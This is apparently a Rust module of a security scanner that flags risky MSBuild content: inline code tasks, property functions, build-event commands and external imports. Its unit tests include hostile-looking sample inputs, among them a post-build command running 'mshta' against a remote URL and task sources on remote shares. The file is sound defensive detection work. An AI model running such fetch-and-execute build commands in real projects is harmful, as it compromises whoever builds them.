//! Build projects: code and commands that a build runs.

use super::{Analyzer, Findings, Found, Look, Sees};
use crate::formats::command_line;
use crate::model::{Fact, Kind};

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "msbuild",
    kinds: &[Kind::MsBuild],
    sees: Sees::Content,
    findings: &["msbuild-inline-task", "msbuild-build-event"],
    run,
};

/// The factory that compiles no code but the description of a command line in XAML ("XamlTaskFactory Class", Microsoft
/// Learn): the build rules of Visual C++ are written so.
const DESCRIBED: &str = "xamltaskfactory";

/// Whether the text of a task is the path of a file that lies with the project.
fn is_file_beside(code: &str) -> bool {
    let code = code.trim();
    let remote = code.contains("://") || code.starts_with("\\\\") || code.starts_with("//");
    let plain = !code.contains(['<', '>', '{', ';', '\n']);
    plain && !remote && code.to_ascii_lowercase().ends_with(".xml")
}

fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    let knowledge = &look.knowledge.commands;
    for fact in &look.artifact.facts {
        match fact {
            Fact::InlineTask {
                name,
                factory,
                code,
            } => {
                let class = factory
                    .rsplit('.')
                    .next()
                    .unwrap_or_default()
                    .trim()
                    .to_lowercase();
                if knowledge.msbuild.factories.contains(&class) {
                    let what = format!("task {name} compiled by {factory}: {code}");
                    let found = Found::new("msbuild-inline-task", &what);
                    let described = class == DESCRIBED && is_file_beside(code);
                    findings.report(if described {
                        found.variant("description")
                    } else {
                        found
                    });
                }
            }
            Fact::BuildFunction { expression } => {
                let lower = expression.to_lowercase();
                let reaches = |function: &String| {
                    lower
                        .get(2..)
                        .is_some_and(|rest| rest.starts_with(function.as_str()))
                };
                if knowledge.msbuild.functions.iter().any(reaches) {
                    findings.report(Found::new("msbuild-inline-task", expression));
                }
            }
            Fact::BuildCommand { element, line } => {
                let found = Found::new("msbuild-build-event", &format!("{element}: {line}"));
                let runs = command_line::commands(line)
                    .iter()
                    .any(|command| knowledge.interpreters.contains(&command.program));
                findings.report(if runs {
                    found.variant("interpreter")
                } else {
                    found
                });
            }
            Fact::BuildImport { element, target } => {
                let what = format!("{element} from elsewhere: {target}");
                findings.report(Found::new("msbuild-build-event", &what));
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{artifact, findings_of};
    use super::*;

    #[test]
    fn a_description_beside_is_no_code() {
        let found = |factory: &str, code: &str| {
            let mut project = artifact(Kind::MsBuild);
            project.facts = vec![Fact::InlineTask {
                name: "a".to_owned(),
                factory: factory.to_owned(),
                code: code.to_owned(),
            }];
            findings_of("msbuild", &[project])
        };
        let is = |severity| vec![("msbuild-inline-task".to_owned(), severity)];
        let beside = "$(MSBuildThisFileDirectory)$(MSBuildThisFileName).xml";
        assert_eq!(found("XamlTaskFactory", beside), is("low"));
        assert_eq!(found("RoslynCodeTaskFactory", beside), is("critical"));
        for code in [
            "\\\\192.0.2.1\\a\\b.xml",
            "http://192.0.2.1/b.xml",
            "<Rule ToolName=\"cmd.exe\"/>.xml",
            "",
        ] {
            assert_eq!(found("XamlTaskFactory", code), is("critical"), "{code}");
        }
    }

    #[test]
    fn an_event_that_copies_is_high_and_one_that_calls_an_interpreter_critical() {
        let found = |line: &str| {
            let mut project = artifact(Kind::MsBuild);
            project.facts = vec![Fact::BuildCommand {
                element: "PostBuildEvent".to_owned(),
                line: line.to_owned(),
            }];
            findings_of("msbuild", &[project])
        };
        assert_eq!(
            found("copy a b"),
            [("msbuild-build-event".to_owned(), "high")]
        );
        assert_eq!(
            found("echo x\r\ncmd /c mshta http://192.0.2.1/"),
            [("msbuild-build-event".to_owned(), "critical")]
        );
    }
}
